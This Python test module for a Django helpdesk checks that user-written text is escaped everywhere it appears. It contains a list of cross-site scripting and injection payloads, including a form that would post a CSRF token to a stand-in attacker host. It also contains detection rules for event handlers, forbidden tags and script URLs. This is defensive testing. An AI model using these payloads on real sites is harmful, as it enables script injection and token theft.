"""What people write is shown and never run."""

import re
from html.parser import HTMLParser

import pytest
from django.http import HttpResponse

from helpdesk.conversations import rendering
from helpdesk.conversations.models import Conversation
from helpdesk.conversations.operations import participating, tagging
from helpdesk.conversations.operations.attaching import NewFile, attach
from helpdesk.conversations.operations.drafting import save_draft
from helpdesk.ledger.event import SYSTEM
from helpdesk.people.models import Team, User
from helpdesk.people.operations.knowing import know_company, know_customer
from helpdesk.people.queries import default_brand
from tests import builders
from tests.inbox.desk import Desk
from tickets.models import Ticket, TicketType
from tickets.operations.fields import fill_in
from tickets.operations.opening import convert
from tickets.operations.receiving import receive_first

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "<!--<script>alert(1)</script>-->",
    "' autofocus onfocus=alert(1) x='",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<base href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<hx-partial hx-target='#thread'>gone</hx-partial>",
    "<b hx-get=/inbox/ hx-trigger=load>x</b>",
]
FORBIDDEN = {"iframe", "base", "object", "embed", "style", "math", "foreignobject"}
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href"}


class Parsed(HTMLParser):
    """A page as a browser takes it apart."""

    def __init__(self, response: HttpResponse) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts = ""
        self.feed(response.content.decode())
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.scripts += data


def poisoned(payload: str) -> Conversation:
    """A ticket with the payload wherever somebody could have written it."""
    grace = builders.teammate()
    company = know_company(name=payload, by=SYSTEM)
    who = know_customer(email="mallory@evil.example", name=payload, company=company, by=SYSTEM)
    who.attributes = {payload[:40]: payload}
    who.save()
    mail = rendering.render_mail(html=f"<p>{payload}</p><blockquote>{payload}</blockquote>", text=payload)
    entry = receive_first(customer=who, brand=default_brand(), channel="email", body=mail, subject=payload)
    thread = Conversation.objects.get(pk=entry.conversation_id)
    attach(thread, [NewFile(payload, b"x"), NewFile(f"{payload}.png", b"\x89PNG\r\n\x1a\n")], by=who, entry=entry)
    attach(thread, [NewFile(payload, b"x")], by=grace)
    kind = builders.another_type("Theft")
    TicketType.objects.filter(pk=kind.pk).update(name=payload[:80])
    kind.refresh_from_db()
    builders.field("text", "Note", type=kind, help_text=payload)
    builders.field("multi_select", "Rooms", payload, type=kind)
    convert(thread, ticket_type=kind, title=payload, by=grace)
    ticket = Ticket.objects.get()
    fill_in(ticket, values={"note": payload, "rooms": [kind.fields.get(key="rooms").options.get().pk]}, by=grace)
    tagging.tag(thread, name=payload[:60], by=grace)
    other = know_customer(email="eve@evil.example", name=payload, by=SYSTEM)
    participating.suggest_participant(thread, customer=other, by=grace)
    save_draft(thread, mode="reply", body=payload, by=grace)
    save_draft(thread, mode="note", body=payload, by=grace)
    User.objects.filter(pk=grace.pk).update(name=payload)
    Team.objects.create(name=payload, icon="users")
    return thread


def assert_harmless(response: HttpResponse) -> None:
    page = Parsed(response)
    assert "alert" not in page.scripts
    for tag, attributes in page.tags:
        assert tag not in FORBIDDEN
        assert not [name for name in attributes if name.startswith("on") or name == "srcdoc"], (tag, attributes)
        assert tag != "b" or not [name for name in attributes if name.startswith("hx-")], attributes
        for address in ADDRESSES & set(attributes):
            assert not re.match(r"\s*(javascript|data|vbscript):|//", attributes[address], re.IGNORECASE), attributes
    if response.content.lstrip().lower().startswith(b"<!doctype"):
        assert "hx-partial" not in {tag for tag, _ in page.tags}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_is_only_text(payload: str) -> None:
    thread, desk = poisoned(payload), Desk()
    assert_harmless(desk.get("show", thread, view="all", q=payload))
    assert_harmless(desk.get("list", q=payload, view=payload, state=payload, sort=payload))
    assert_harmless(desk.get("new_ticket"))
    desk.is_htmx = True
    assert_harmless(desk.get("field", thread, "note"))
    assert_harmless(desk.post("replies", thread, body=payload, state="99999"))
    assert_harmless(desk.post("tags", thread, name=payload * 9))
    assert_harmless(desk.post("participants", thread, email=payload))
    assert_harmless(desk.post("new", email=payload, name=payload, subject=payload, body=payload))


def test_what_was_typed_is_shown_as_typed() -> None:
    thread = poisoned(PAYLOADS[0])
    page = Desk().get("show", thread).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.split("</head>")[1].replace("</script>", "")


def test_scripts_may_only_be_our_own() -> None:
    policy = Desk().get("list")["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
